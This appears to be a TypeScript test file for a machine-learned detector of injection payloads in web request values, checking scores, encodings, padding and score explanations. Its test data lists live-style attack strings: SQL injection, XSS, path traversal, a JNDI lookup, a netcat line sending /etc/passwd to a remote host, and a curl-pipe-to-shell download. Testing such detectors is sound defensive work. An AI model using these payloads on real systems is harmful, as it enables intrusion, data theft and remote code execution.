import assert from "node:assert/strict";
import fc from "fast-check";
import { builtinModel } from "./builtin_model.ts";
import { explainScore } from "./explain_score.ts";
import { FeatureScan, SCAN_CHARS } from "./feature_scan.ts";
import { readForScore } from "./reading.ts";
import { ScoreScan, WINDOW_STEPS } from "./score_scan.ts";
import { ModelScorer } from "./scorer.ts";
import { isScoredPlace, isWorthScoring } from "./worth_scoring.ts";

const MODEL = builtinModel();
const SCORER = new ModelScorer(MODEL);

function above(value: string): number {
  return SCORER.score(readForScore(value)).score - MODEL.threshold;
}

const ATTACKS = [
  "' or 1=1--",
  "1' and (select count(*) from information_schema.tables) > 0 -- -",
  "1; waitfor delay '0:0:5'--",
  '"><img src=x onerror=alert(document.domain)>',
  "<svg/onload=confirm(1)>",
  "javascript:alert(String.fromCharCode(88,83,83))",
  "; cat /etc/passwd | nc 203.0.113.7 4444",
  "$(curl http://203.0.113.7/x.sh|sh)",
  "../../../../../../etc/passwd",
  "${jndi:ldap://203.0.113.7/a}",
];

const HONEST = [
  "Seán O'Brien & Sons (est. 1987)",
  "Please select the blue one from the list, or drop me a line -- thanks!",
  "It's 5 o'clock; the \"table\" isn't ready (yet)",
  "size 12' x 8\" 1/2 -- 50% off; 3 for 2",
  "What is the difference between UNION and UNION ALL?",
  "<p>Dear Ann,<br/>your order <b>#42</b> is ready.</p>",
  "https://shop.example/search?q=shoes&page=2#top",
  "R&D, Q&A; AT&T's best",
];

Deno.test("the embedded model tells attacks that nobody wrote down for it from honest text", () => {
  for (const attack of ATTACKS) assert.ok(above(attack) > 0, `${attack}: ${above(attack)}`);
  for (const text of HONEST) assert.ok(above(text) < 0, `${text}: ${above(text)}`);
});

Deno.test("prose around a payload does not hide it, and is none", () => {
  const prose = "We met at the station and walked along the river until it was late. ".repeat(20);
  // The short ones are left to the rules: a window holds more of the prose than of them.
  for (const attack of ATTACKS.filter((each) => /[<\x27"]/.test(each) && each.length > 30)) {
    assert.ok(above(`${prose}${attack} ${prose}`) > 0, attack);
  }
  assert.ok(above(prose) < 0);
});

Deno.test("[SECURITY] padding by comments does not push a payload's pieces apart", () => {
  const padding = `/*${"a".repeat(40)}*/`;
  const padded = ["'", "or", "1=1--"].join(padding);
  assert.ok(above(padded) > 0);
  assert.ok(above("' or 1=1--") - above(padded) < 3);
});

Deno.test("[SECURITY] a payload is read through the layers it is wrapped in", () => {
  const plain = "<script>alert(document.cookie)</script>";
  const wrapped = [
    encodeURIComponent(encodeURIComponent(plain)),
    plain.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
    btoa(`${plain}  `),
    plain.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
    [...plain].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join(""),
  ];
  for (const value of wrapped) assert.ok(above(value) > 0, value);
});

Deno.test("bland and typed values are not scored", () => {
  const skipped = [
    "42",
    "order-2026_01.A",
    "2026-11-22T10:11:12Z",
    "https://shop.example/a/b?c=1",
    "Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9v/+aa==",
  ];
  for (const value of skipped) assert.equal(isWorthScoring(value), false, value);
  for (const value of ["1' or 1", "1 --", "/../etc/passwd"]) assert.equal(isWorthScoring(value), true, value);
  assert.equal(isWorthScoring("/shop/shoes.html"), false);
});

Deno.test("fields with a grammar of their own, and uploads, are not the model's", () => {
  assert.equal(isScoredPlace("header", "accept-language"), false);
  assert.equal(isScoredPlace("header", "x-search"), true);
  assert.equal(isScoredPlace("file", "upload"), false);
  assert.equal(isScoredPlace("arg", "accept"), true);
});

Deno.test("a score is finite, its window and its pieces lie in the text, whatever the text", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 3_000 }), (text) => {
      const scored = SCORER.score(text);
      assert.ok(Number.isFinite(scored.score));
      assert.ok(scored.start >= 0 && scored.start <= scored.end && scored.end <= text.length);
      for (const piece of explainScore(MODEL, text, scored)) {
        assert.ok(piece.start >= scored.start && piece.end <= scored.end && piece.start < piece.end);
      }
    }),
    { numRuns: 200 },
  );
});

Deno.test("the pieces that made a score stand in the payload", () => {
  const before = "order number 7 for the ";
  const text = `${before}<svg/onload=confirm(1)>`;
  const scored = SCORER.score(text);
  const [heaviest] = explainScore(MODEL, text, scored);
  assert.ok(heaviest !== undefined && heaviest.start >= before.length - 1 && heaviest.weight > 0);
});

Deno.test("a scan takes no more than its arrays hold", () => {
  const scan = new FeatureScan(MODEL);
  const steps = scan.scan("';a".repeat(SCAN_CHARS), 0);
  assert.equal(steps, SCAN_CHARS + 1);
  assert.ok(scan.ends[steps - 1]! <= scan.features.length);
});

/** The best window by the features that FeatureScan names, window by window. */
function bestByFeatures(text: string, from: number): { sum: number; start: number; end: number } {
  const scan = new FeatureScan(MODEL);
  const steps = scan.scan(text, from);
  const values = Array.from({ length: steps }, (_, step) => {
    const features = scan.features.subarray(step === 0 ? 0 : scan.ends[step - 1], scan.ends[step]);
    return features.reduce((sum, feature) => sum + MODEL.weights[feature]!, 0);
  });
  let best = { sum: -Infinity, start: from, end: from };
  for (let step = 0; step < steps; step++) {
    const first = Math.max(0, step - WINDOW_STEPS + 1);
    const sum = values.slice(first, step + 1).reduce((total, value) => total + value, 0);
    if (sum <= best.sum) continue;
    const end = Math.min(text.length, scan.offsets[step]! + 1);
    best = { sum, start: scan.offsets[first]!, end };
  }
  return best;
}

Deno.test("the sum of weights is that of the features, whatever the text", () => {
  const piece = fc.oneof(
    fc.constantFrom(...ATTACKS, ...HONEST, "0x1f", "a1b2", "123456", "  ", "\r\n\n", "\u00e9\u4e2d", "_x_"),
    fc.string({ unit: "binary", maxLength: 40 }),
  );
  const texts = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(""));
  const scan = new ScoreScan(MODEL);
  fc.assert(
    fc.property(texts, fc.nat(200), (text, from) => {
      const at = Math.min(from, text.length);
      assert.deepEqual(scan.best(text, at), bestByFeatures(text, at));
    }),
    { numRuns: 300 },
  );
});
